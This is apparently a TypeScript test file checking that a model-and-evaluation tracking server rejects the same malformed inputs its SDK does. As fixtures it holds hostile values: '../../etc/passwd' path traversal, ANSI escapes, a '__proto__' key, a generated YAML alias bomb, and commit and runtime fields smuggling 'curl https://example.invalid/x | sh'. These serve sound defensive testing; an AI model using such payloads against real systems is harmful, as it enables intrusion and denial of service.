/**
 * The server checks what the SDK checks, with the same limits (src/record/validate.ts LIMITS):
 * model names and owners, a version's artifact name, score names and columns, output hashes,
 * eval headers of the wrong shape, and the captured fields of a run (control characters, commits).
 */
import assert from 'node:assert/strict'
import { after, before, describe, it } from 'node:test'
import { LIMITS } from '../../src/record/validate.js'
import { encodeEvalChunk, type EvalChunk } from '../../src/store/chunk-codec.js'
import { CODE, ENVIRONMENT, newRun } from '../store/fixtures.js'
import { bearer, makeToken, testServer, type TestServer } from './helpers.js'

type Inject = Awaited<ReturnType<TestServer['app']['inject']>>

function refused(response: Inject, status: number, code: string, what: string): void {
  assert.equal(response.statusCode, status, `${what}: ${response.body}`)
  assert.equal((response.json() as { error: { code: string } }).error.code, code, what)
}

function chunk(scores: Record<string, number>, outputHash: string | null = null): Buffer {
  const numeric = new Map(Object.entries(scores).map(([name, v]) => [`score:${name}`, Float64Array.of(v)]))
  const c: EvalChunk = { ids: ['q1'], clusters: null, outputHashes: outputHash === null ? null : [outputHash], numeric, missing: new Map() }
  return encodeEvalChunk(c)
}

describe('server validation matches the SDK', () => {
  let s: TestServer
  let write: string
  const run = newRun()

  before(async () => {
    s = await testServer()
    write = (await makeToken(s.store, 'write')).secret
    await s.store.createRun(run)
  })
  after(() => s.close())

  const post = (url: string, payload: unknown): Promise<Inject> => s.app.inject({ method: 'POST', url, payload: payload as Record<string, unknown>, headers: bearer(write) })
  const model = (name: string, owner = 'alice'): Record<string, unknown> => ({ name, owner, description: '', tags: {}, createdAt: 1, createdBy: 'x' })

  it('model names that are paths and owners with terminal escapes are 400', async () => {
    refused(await post('/api/v1/models', model('../../etc/passwd')), 400, 'ASSAY_INVALID_KEY', 'a path as model name')
    refused(await post('/api/v1/models', model('a\\b')), 400, 'ASSAY_INVALID_KEY', 'a backslash')
    refused(await post('/api/v1/models', model('red\u001b[31m')), 400, 'ASSAY_INVALID_KEY', 'ANSI in the name')
    refused(await post('/api/v1/models', model('m', 'mallory\u001b[2J')), 400, 'ASSAY_INVALID_KEY', 'ANSI in the owner')
    assert.deepEqual(await s.store.listModels(), [])
    assert.equal((await post('/api/v1/models', model('sentiment-v2'))).statusCode, 201)
  })

  it("a version's artifact name is checked like an artifact's", async () => {
    const version = { model: 'sentiment-v2', runId: run.id, artifact: { name: '../../etc/passwd', sha256: 'a'.repeat(64) }, description: '', tags: {}, createdAt: 1, createdBy: 'x' }
    refused(await post('/api/v1/models/sentiment-v2/versions', version), 400, 'ASSAY_INVALID_ARTIFACT_NAME', 'traversal in a version artifact')
    assert.deepEqual(await s.store.listModelVersions('sentiment-v2'), [])
  })

  it('score names, score columns and output hashes have the SDK limits; a malformed eval header is 400', async () => {
    const url = `/api/v1/runs/${run.id}/evals?dataset=val&datasetSha256=${'d'.repeat(64)}`
    const send = (body: Buffer): Promise<Inject> => s.app.inject({ method: 'POST', url, payload: body, headers: { ...bearer(write), 'content-type': 'application/octet-stream' } })
    const withProto = encodeEvalChunk({ ids: ['q1'], clusters: null, outputHashes: null, numeric: new Map([['score:__proto__', Float64Array.of(1)]]), missing: new Map() })
    refused(await send(withProto), 400, 'ASSAY_INVALID_KEY', '__proto__ as score name')
    refused(await send(chunk({ 'a\u001b[31m': 1 })), 400, 'ASSAY_INVALID_KEY', 'an escape in a score name')
    const many = Object.fromEntries(Array.from({ length: LIMITS.scoresPerRecord + 1 }, (_, i) => [`s${i}`, i]))
    refused(await send(chunk(many)), 400, 'ASSAY_INVALID_ARGUMENT', 'more score columns than the SDK allows')
    refused(await send(chunk({ ok: 1 }, 'h'.repeat(LIMITS.outputHashLength + 1))), 413, 'ASSAY_VALUE_TOO_LARGE', 'an output hash over the limit')
    const header = Buffer.from(JSON.stringify({ count: 1, numeric: null, missing: {}, clusterValues: null, outputHashes: null, idsBytes: 2 }))
    const frame = Buffer.alloc(8 + header.length + 8)
    frame.writeUInt32LE(0x32455341, 0)
    frame.writeUInt32LE(header.length, 4)
    header.copy(frame, 8)
    refused(await send(frame), 400, 'ASSAY_INVALID_ARGUMENT', 'numeric: null')
    assert.deepEqual((await s.store.getRun(run.id)).evals, [])
    assert.equal((await send(chunk(Object.fromEntries(Array.from({ length: LIMITS.scoresPerRecord }, (_, i) => [`s${i}`, i]))))).statusCode, 200)
  })

  it('a YAML alias bomb in a gate file is 400 ASSAY_INVALID_GATE_SPEC', async () => {
    const levels = ['a: &a ["x","x","x","x","x","x","x","x","x"]']
    for (let i = 1; i < 9; i++) levels.push(`${String.fromCharCode(97 + i)}: &${String.fromCharCode(97 + i)} [${Array(9).fill(`*${String.fromCharCode(96 + i)}`).join(',')}]`)
    const text = `${levels.join('\n')}\n`
    refused(await post('/api/v1/gate-checks', { gate: { source: 'bomb.yaml', text }, candidate: `run:${run.id}` }), 400, 'ASSAY_INVALID_GATE_SPEC', 'alias bomb')
  })

  it('a run whose commit is shell or whose captured fields hold control characters is 400', async () => {
    const cases = [
      newRun({ code: { ...CODE, commit: 'HEAD; curl https://example.invalid/x | sh #' } }),
      newRun({ environment: { ...ENVIRONMENT, runtimeVersion: '20.19.0\ncurl https://example.invalid/x | sh' } }),
      newRun({ environment: { ...ENVIRONMENT, envVars: { 'A;id': 'x' } } }),
    ]
    for (const bad of cases) {
      refused(await post('/api/v1/runs', bad), 400, 'ASSAY_INVALID_ARGUMENT', JSON.stringify(bad.code.commit))
      await assert.rejects(s.store.getRun(bad.id))
    }
  })
})
